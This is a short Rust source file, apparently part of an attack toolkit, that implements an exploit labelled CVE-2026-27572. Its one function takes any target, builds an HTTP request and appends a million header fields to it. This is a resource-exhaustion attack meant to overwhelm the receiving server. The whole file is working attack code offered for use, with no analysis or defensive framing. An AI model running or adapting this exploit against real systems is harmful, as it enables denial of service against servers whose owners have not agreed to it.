//! Fields without end in one request (CVE-2026-27572).

use attack_kit::Tried;
use attack_kit::http::Attempt;

pub fn attack(target: &str) -> Tried {
    let attempt = Attempt::get(target);
    for _ in 0..1_000_000 {
        attempt.fields.append("x", b"y").map_err(attack_kit::name)?;
    }
    attempt.tried()
}
